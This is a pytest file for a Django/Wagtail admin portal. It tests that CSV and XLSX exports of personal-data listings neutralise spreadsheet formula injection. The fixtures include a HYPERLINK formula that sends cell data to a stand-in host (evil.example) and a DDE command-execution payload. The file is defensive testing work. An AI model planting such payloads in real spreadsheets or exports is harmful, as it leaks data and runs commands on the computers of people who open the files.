"""Every export of every admin listing neutralises spreadsheet formulas, in
CSV and in XLSX: one rule (`portal/exports.py`), applied by the shared index
views of `portal/admin.py` that every viewset uses.

The first test walks every registered viewset that has a `list_export`, so a
new listing that forgets the shared base fails here; the others download real
exports of personal data with a hostile name in them."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse
from wagtail.admin.viewsets import viewsets as registry

from portal.admin import SafeExportMixin
from portal.exports import FORMULA_TRIGGERS
from resources.models import BadgeRequest
from tests.factories.badges import award, create_badge_class

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
FORMATS = ("csv", "xlsx")


class Hostile:
    """A related object (partner, badge class, event…) whose name is a formula:
    the cell holds its text."""

    def __str__(self):
        return "+cmd|' /C calc'!A0"


def exporting_viewsets():
    reverse("wagtailadmin_home")  # loading the admin URLs registers every viewset
    return [
        viewset
        for viewset in registry.viewsets
        # Wagtail's own viewsets leave it UNDEFINED: they export nothing.
        if isinstance(getattr(viewset, "list_export", None), (list, tuple))
        and viewset.list_export
    ]


def test_every_viewset_with_an_export_neutralises_every_column():
    found = exporting_viewsets()
    names = {viewset.name for viewset in found}
    # The listings of personal data are among them.
    assert {"badge_requests", "badge_assertions", "registrations", "volunteer"} <= (
        names
    )
    live = []
    for viewset in found:
        view_class = viewset.index_view_class
        assert issubclass(view_class, SafeExportMixin), (
            f"{viewset.name}: {view_class.__name__} must build on portal.admin"
        )
        view = view_class()
        for field in viewset.list_export:
            for export_format in FORMATS:
                for value in (FORMULA, "@SUM(1+1)", "-2+3", "\t=1", Hostile()):
                    cell = view.preprocess_field_value(field, value, export_format)
                    if isinstance(cell, str) and cell.startswith(FORMULA_TRIGGERS):
                        live.append((viewset.name, field, export_format, cell))
    assert live == []


def cells_of(response, export_format):
    body = b"".join(response.streaming_content) if response.streaming else None
    if export_format == "csv":
        text = body.decode("utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    if body is None:
        body = b"".join(response)
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    return [
        cell.value
        for row in workbook.active.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def assert_no_live_formula(cells):
    assert [c for c in cells if isinstance(c, str) and c.startswith("=")] == []


@pytest.fixture
def superuser(client, django_user_model):
    user = django_user_model.objects.create_superuser(
        "admin", "admin@mediatheque.fr", "x" * 12
    )
    client.force_login(user)
    return user


@pytest.mark.parametrize("export_format", FORMATS)
def test_badge_requests_export_neutralises_a_public_name(
    client, superuser, export_format
):
    badge = create_badge_class(slug="premiers-pas", name="Premiers pas")
    BadgeRequest.objects.create(
        badge_class=badge,
        name=FORMULA,
        email="lea@exemple.fr",
        evidence_text="=1+1",
        consent=True,
    )
    response = client.get(reverse("badge_requests:index"), {"export": export_format})
    assert response.status_code == 200
    cells = cells_of(response, export_format)
    assert "'" + FORMULA in cells
    assert_no_live_formula(cells)


@pytest.mark.parametrize("export_format", FORMATS)
def test_awarded_badges_export_neutralises_names_and_reasons(
    client, superuser, export_format
):
    badge = create_badge_class(slug="premiers-pas", name="=Premiers pas")
    award(badge, name=FORMULA, email="lea@exemple.fr")
    response = client.get(reverse("badge_assertions:index"), {"export": export_format})
    assert response.status_code == 200
    cells = cells_of(response, export_format)
    assert "'" + FORMULA in cells
    assert "'=Premiers pas" in cells
    assert_no_live_formula(cells)
